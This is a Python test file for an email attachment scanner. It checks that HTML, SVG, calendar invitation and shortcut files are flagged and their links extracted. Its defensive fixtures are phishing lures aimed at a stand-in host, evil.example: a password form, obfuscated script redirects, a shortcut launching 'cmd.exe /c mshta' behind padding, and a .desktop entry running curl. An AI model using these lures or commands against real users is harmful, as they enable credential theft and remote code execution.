"""Pages, drawings, invitations and shortcuts as attached files."""

from __future__ import annotations

import base64
import time
from urllib.parse import quote

import pytest
from tests.mail.attached.written import shortcut

from madoguchi.mail import read
from madoguchi.mail.attached import open_file
from madoguchi.mail.attached.opened import Opened
from madoguchi.model import FileTrait

SCRIPTED, ASKS, RUNS = FileTrait.SCRIPTED, FileTrait.ASKS, FileTrait.RUNS
EVIL = "https://evil.example/x"
FORM = f'<form action="{EVIL}"><input type="password" name="p"></form>'


def opened(content: str | bytes, name: str, declared: str = "application/octet-stream") -> Opened:
    return open_file(content.encode() if isinstance(content, str) else content, name, declared)


@pytest.mark.parametrize(
    ("source", "traits"),
    [
        (f"<html><p>請求書</p>{FORM}</html>", {ASKS}),
        (f'<html><meta http-equiv="refresh" content="0;url={EVIL}"></html>', set()),
        (f'<html><a href="{EVIL}">x</a></html>', set()),
        ("<html><script>location.href='https://evil'+'.example/x'</script></html>", {SCRIPTED}),
        (f"<html><script>var u=atob('{base64.b64encode(EVIL.encode()).decode()}')</script></html>",
         {SCRIPTED}),
        (f"<html><script>document.write(unescape('{quote(FORM)}'))</script></html>",
         {SCRIPTED, ASKS}),
        (f"<html><script>document.write(atob('{base64.b64encode(FORM.encode()).decode()}'))</script>",
         {SCRIPTED, ASKS}),
        (f"<html><script>x = 'https://evil' + t; y = '{EVIL}' + z</script></html>", {SCRIPTED}),
        (f'<html><script>fetch("{EVIL}",{{method:"POST"}})</script></html>', {SCRIPTED}),
        (f"<html><body onload=\"location='{EVIL}'\"></body></html>", {SCRIPTED}),
    ],
)  # fmt: skip
def test_a_page_leads_where_a_browser_would_go(source: str, traits: set[FileTrait]) -> None:
    found = opened(source, "請求書.html", "text/html")
    assert found.traits == traits
    if "onload" not in source:
        assert [(link.url, link.carrier, link.span) for link in found.links] == [
            (EVIL, "html-file", None)
        ]


def test_a_page_that_only_shows_something() -> None:
    found = opened("<html><h1>御見積書</h1><table><tr><td>1</td></tr></table></html>", "a.html")
    assert found.traits == frozenset()
    assert found.text.split() == ["御見積書", "1"]
    data = '<html><script type="application/ld+json">{"a":1}</script><p>x</p></html>'
    assert opened(data, "a.html").traits == frozenset()


@pytest.mark.parametrize("encoding", ["utf-16", "cp932", "euc-jp"])
def test_a_page_in_another_charset(encoding: str) -> None:
    source = f"<html><p>お支払い方法のご確認をお願いします</p>{FORM}</html>"
    found = opened(source.encode(encoding), "a.html", "text/html")
    assert "お支払い方法のご確認" in found.text
    assert [link.url for link in found.links] == [EVIL]


def test_a_fragment_is_a_page_by_its_name_only() -> None:
    assert ASKS in opened(f"<p>x</p>{FORM}", "a.htm").traits
    assert opened(f"<p>x</p>{FORM}", "a.txt").traits == frozenset()


def test_a_drawing_with_a_script_and_one_without() -> None:
    start = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    evil = opened(
        f'{start}<a xlink:href="{EVIL}"><text>x</text></a><script>1</script></svg>', "a.svg"
    )
    assert evil.traits == {SCRIPTED}
    assert [(link.url, link.carrier) for link in evil.links] == [(EVIL, "svg-file")]
    logo = opened(f'{start}<path d="M0 0h9"/></svg>', "logo.svg")
    assert (logo.traits, logo.links) == (frozenset(), ())


INVITATION = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
    "SUMMARY;LANGUAGE=ja:本人確認のお願い\r\nDESCRIPTION:こちらから https://evil.exa\r\n mple/x\\n"
    '24時間以内\r\nORGANIZER;CN="Desk: A":mailto:desk@example.com\r\nURL:https://b.example/\r\n'
    'X-ALT-DESC;FMTTYPE=text/html:<a href="https://c.example/">続き</a>\r\n'
    "END:VEVENT\r\nEND:VCALENDAR\r\n"
)


def test_an_invitation_is_read_unfolded() -> None:
    found = opened(INVITATION, "invite.ics", "text/calendar")
    assert found.text.split("\n")[:3] == [
        "本人確認のお願い", "こちらから https://evil.example/x", "24時間以内",
    ]  # fmt: skip
    assert {link.url for link in found.links} == {
        EVIL, "mailto:desk@example.com", "https://b.example/", "https://c.example/",
    }  # fmt: skip
    assert {link.carrier for link in found.links} == {"ics"}
    assert found.traits == frozenset()


def test_an_invitation_that_is_none() -> None:
    assert opened("SUMMARY:x\n", "a.ics", "text/calendar").traits == {FileTrait.DAMAGED}


def test_a_shortcut_shows_its_command_defanged() -> None:
    found = opened(
        shortcut("..\\..\\Windows\\System32\\cmd.exe", " " * 300 + f"/c mshta {EVIL}"), "請求書.lnk"
    )
    assert found.traits == {RUNS}
    assert found.text == "..\\..\\Windows\\System32\\cmd[.]exe /c mshta hxxps://evil[.]example/x"
    assert [(link.url, link.carrier) for link in found.links] == [(EVIL, "lnk")]


def test_a_shortcut_torn_off_still_runs() -> None:
    whole = shortcut("cmd.exe", "/c x")
    for size in range(20, len(whole)):
        assert RUNS in opened(whole[:size], "a").traits


@pytest.mark.parametrize(
    ("content", "name", "links", "runs"),
    [
        (f"[InternetShortcut]\r\nURL={EVIL}\r\n", "a.url", [EVIL], False),
        ("[InternetShortcut]\r\nURL=file://198.51.100.1/share/a.exe\r\n", "a.url", [], True),
        ("[InternetShortcut]\r\nURL=\\\\198.51.100.1\\share\\a.exe\r\n", "a.url", [], True),
        ("[InternetShortcut]\r\nURL=search-ms:query=a&crumb=location:x\r\n", "a.url", None, True),
        (f"<plist><dict><key>URL</key><string>{EVIL}</string></dict></plist>", "a.webloc", [EVIL],
         False),
        (f"[Desktop Entry]\nExec=sh -c 'curl {EVIL}'\n", "a.desktop", None, True),
    ],
)  # fmt: skip
def test_files_that_are_nothing_but_an_address(
    content: str, name: str, links: list[str] | None, runs: bool
) -> None:
    found = opened(content, name)
    if links is not None:
        assert [link.url for link in found.links] == links
    assert (RUNS in found.traits) is runs


@pytest.mark.parametrize(
    "piece",
    ["<script", "<script>atob('", "<input ", "<a onclick=", "'aHR0cHM6Ly9", "\"https://a", "<!--",
     "<svg ", "<form>", "&#x", "<script>location='a'+", "javascript:"],
)  # fmt: skip
def test_a_page_made_to_keep_a_reader_busy(piece: str) -> None:
    begun = time.process_time()
    opened("<html>" + piece * (400_000 // len(piece)), "a.html")
    assert time.process_time() - begun < 3


def test_the_links_of_files_become_links_of_the_mail() -> None:
    message = read(
        b"From: a@example.com\nMessage-ID: <1@example.com>\nSubject: s\nMIME-Version: 1.0\n"
        b"Content-Type: multipart/mixed; boundary=b\n\n--b\n\nhttps://a.example/\n"
        b'--b\nContent-Type: text/html\nContent-Disposition: attachment; filename="a.html"\n\n'
        b"<html>" + FORM.encode() + b"</html>\n--b--\n"
    )
    assert [(link.host, link.carrier) for link in message.links] == [
        ("a.example", "text"),
        ("evil.example", "html-file"),
    ]
    assert message.attachments[0].traits == (ASKS,)
    assert "evil" not in message.text
